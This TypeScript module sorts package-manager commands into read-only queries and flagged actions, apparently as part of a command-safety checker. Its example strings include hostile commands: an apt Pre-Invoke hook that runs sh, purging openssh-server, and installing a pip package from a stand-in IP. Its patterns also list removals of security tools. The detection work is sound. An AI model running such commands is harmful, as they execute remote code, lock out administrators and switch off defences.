/** Package managers. */
import { type Call, ex, type Family } from "../call.ts";
import { emptied } from "../words.ts";

const reads: Record<string, RegExp> = {
  apt: /^(-\w+ )*(list|show|search|policy|depends|rdepends|showsrc|changelog_x)( |$)/,
  "apt-get":
    /^((-s|--simulate|--dry-run|--just-print) (-\w+ )*(install|upgrade|remove|dist-upgrade|autoremove|full-upgrade|check)|(install|upgrade|remove|dist-upgrade|autoremove) (-s|--simulate|--dry-run)|check|--version)( |$)/,
  "apt-cache": /^(policy|show|search|depends|rdepends|showpkg|madison|pkgnames|stats|unmet|showsrc)( |$)/,
  "apt-mark": /^(showhold|showauto|showmanual)/,
  "apt-config": /^dump$/,
  "apt-key": /^(list|finger)$/,
  aptitude: /^(search|show|why|why-not|versions)( |$)/,
  pactree: /^[\w.+-]+$/,
  "apt-file": /^(search|list)/,
  dpkg: /^(-[lLSsVpC]|--(list|listfiles|search|status|verify|audit|print-avail|get-selections|print-architecture|version|compare-versions|info|contents)|-[Ic])( |$)/,
  "dpkg-query": /^(-[WlLSsf]|--(show|list|listfiles|search|status|showformat.*))/,
  rpm: /^(-q\w*|--query|-V\w*|--verify|--version|--eval_x|-qa|-K|--checksig)( |$)/,
  yum: /^(-\w+ )*(list|info|search|history( (list|info|summary|stats|addon-info|packages?-(list|info)))?(?= \d| --?\w| last|$)|repolist|provides|whatprovides|check-update|deplist|grouplist|updateinfo|check|--version)( |$)/,
  dnf: /^(-\w+ )*(list|info|search|history( (list|info|userinstalled))?(?= \d| --?\w| last|$)|repolist|provides|whatprovides|check-update|deplist|repoquery|updateinfo|check|module list|--version)( |$)/,
  zypper:
    /^(-\w+ |--\S+ )*(se|search|if|info|lr|repos|lu|list-updates|pa|packages|ps|lp|wp|what-provides|locks)( |$)/,
  pacman: /^-(Q\w*|Ss|Si|F[lsx]*)( |$)/,
  apk: /^(info|list|search|policy|version|stats|audit)( |$)/,
  snap: /^((list|info|services|changes|version|find|connections)( |$)|logs [\w.-]+( -n=?\d+)?$)/,
  flatpak: /^(list|info|history)( |$)/,
  brew: /^(list|info|search)( |$)/,
  pip: /^(list|show|freeze|check|--version|-V|debug_x)( |$)/,
  pip3: /^(list|show|freeze|check|--version|-V)( |$)/,
  npm: /^((-g|--global) )?(ls|list|view|outdated|--version|-v|root|prefix|config get (registry|prefix|cache|node-version|userconfig)|config (list|ls)|ping)( |$)/,
  yarn: /^(--version|-v)$/,
  pnpm: /^(ls|list|why|--version|-v|outdated)( |$)/,
  gem: /^(list|info|--version|-v|environment|search|which|outdated|specification)( |$)/,
  composer: /^(--version|-V)$/,
  bundle: /^(--version|-v)$/,
  cargo: /^(--version|-V|search [\w-]+)$/,
  go: /^(version( -m)?( \/[\w/.-]+)*|env( [A-Z]\w*)*)$/,
  "needs-restarting": /^(-\w+)*( |$)/,
  "unattended-upgrade": /^--dry-run/,
  "subscription-manager": /^(status|identity|list( --(consumed|installed|available|all))*)$/,
  "update-alternatives": /^--(list|display|query|get-selections)( |$)/,
  alternatives: /^--(display|list)/,
  debsums: /^(-\w+ ?)*[\w-]*$/,
  ldconfig: /^-(p|v -N)$/,
};

/** Options known to change nothing about what a query does beyond its text. */
const queryFlag =
  /^(-[a-zA-Z0-9]{1,6}|--(installed|upgradable|all|all-versions|manual-installed|names-only|name-only|nopackages|provides|requires|whatprovides|changelog|scripts|list|files|info|last|qf|queryformat|queryformat=.*|showformat|showformat=.*|duplicates|available|updates|security|sec-severity|repo=[\w.*-]+|repoid=[\w.*-]+|enablerepo=[\w.*-]+|disablerepo=[\w.*-]+|showduplicates|show-duplicates|quiet|verbose|cached|recurse|installed-size|outdated|format=\w+|format|user|local|global|depth=\d+|depth|json|long|parseable|prod|omit=\w+|dry-run|simulate|just-print|yes|assume-yes|assumeno|no-install-recommends|only-upgrade|print-architecture|print-foreign-architectures|get-selections|status|listfiles|search|verify|audit|version|nodeps|nofiles|nodigest|nosignature_x|nosignature|configfiles|docfiles|state|triggers|filesbypkg|checksig|contents|compare-versions|display|query|group|installonly|unneeded|userinstalled|leaves|location|tree|resolve|no-pager|color=\w+|full|reverse|extras|exact-match|match-exact|sort-by-\w+|details|debug|help|show|search=\S+|print-avail))$/;

function packageManager(call: Call): void {
  const w = call.args.map(emptied);
  const j = w.join(" ");
  if (
    /(^| )(-o|--option|-c|--config-file|--setopt|--define|-D|--eval|-E|--load|--rcfile|--macros|--pipe|--root|--noplugins-x|--script-shell|--node-options|--global-option|--install-option|--post-invoke|--pre-invoke)([= ]|$)/.test(
      ` ${j}`,
    ) &&
    /^(apt|rpm|yum|dnf|dpkg|npm|pip)/.test(call.name)
  ) {
    if (
      /Proxy-Auto-Detect|Pre-Invoke|Post-Invoke|Pre-Install|Dir::Bin|Dpkg::|%\(|lua:|--pipe|--script-shell|APT::Update|Methods/i.test(
        j,
      )
    )
      call.report("side-door");
    else if (!/^dpkg(-query)?$/.test(call.name) || !/^-c\b/.test(j)) call.report("unknown-config");
  }
  if (/%\(|%\{lua|%\{expand|%\{uncompress/.test(j)) call.report("side-door");
  if (
    /https?:\/\//.test(j) &&
    /install|-i|-U/.test(j) &&
    /^(rpm|pip3?|npm|gem|go|cargo|dpkg|yum|dnf|apk|apt)/.test(call.name)
  )
    call.report("fetch-exec");
  const plain = w.every((x) => !x.startsWith("-") || queryFlag.test(x));
  if (reads[call.name]?.test(j) && !plain)
    call.report(
      "unknown-flag",
      call.args.find((a) => emptied(a).startsWith("-") && !queryFlag.test(emptied(a))),
    );
  if (/^rpm|^dpkg/.test(call.name) && /:\/\//.test(j)) call.report("egress-unknown");
  if (
    reads[call.name]?.test(j) &&
    !/(^| )(--download|--reinstall|-i|--install|-e|--erase|-U|-F|--upgrade|--import|--initdb|--rebuilddb|--restore|--setperms|--setugids|undo|rollback|redo)( |$)/.test(
      ` ${j} `,
    )
  ) {
    if (call.name === "apt-get" && /(^| )(&&|--no-dry-run)/.test(j)) call.report("package-change");
    for (const [i, a] of call.args.entries())
      if (
        (w[i] ?? "").startsWith("/") &&
        /^(rpm|dpkg)$/.test(call.name) &&
        /^-[qIc]\w*p|^-[Ic]$/.test(w[0] ?? "")
      )
        call.read(a);
    return;
  }
  if (
    /(^| )(remove|purge|erase|autoremove|--purge|--remove|--erase|-r|-P|-e|-R|del|uninstall)( |$)/.test(
      ` ${j} `,
    )
  ) {
    if (
      /(^| )(openssh-server|systemd|sudo|libc6|glibc|bash|coreutils|linux-image\S*|kernel|networkd?|network-manager|apt|dpkg|rpm)( |$)/.test(
        ` ${j} `,
      )
    )
      call.report("destroy");
    if (/(fail2ban|auditd?|apparmor|selinux\S*|firewalld|ufw|nftables|clamav\S*|rsyslog)( |$)/.test(`${j} `))
      call.report("security-off");
  }
  if (/--allow-unauthenticated|--nogpgcheck|--no-gpg-check|--nosignature|--trusted-host/.test(j))
    call.report("package-change");
  call.report("package-change", undefined, `${call.name} ${j}`);
}

export const packages: Family = {
  name: "packages",
  specs: [
    {
      names: `${Object.keys(reads).join(" ")} dpkg-reconfigure add-apt-repository npx pipx uv conda easy_install cpan pecl luarocks microdnf opkg emerge nix-env guix yumdownloader rpmbuild do-release-upgrade apt-add-repository`,
      style: "free",
      args: "text",
      loose: true,
      closed: "options",
      check: packageManager,
      examples: ex(
        "apt list --installed ¦ dpkg -l ¦ rpm -qa ¦ apt-cache policy nginx ¦ pip list ¦ yum history ¦ dnf history info 4 ¦ dnf history list --reverse ¦ apt-get -s upgrade",
        "apt-get install nginx ¦ dnf history replay a.json ¦ yum history sync ¦ dnf history store 4 ¦ yum update ¦ npm install ¦ pip install x",
        "apt-get -o APT::Update::Pre-Invoke::=sh update ¦ apt-get purge openssh-server ¦ pip install http://203.0.113.1/x.tgz",
      ),
    },
  ],
};
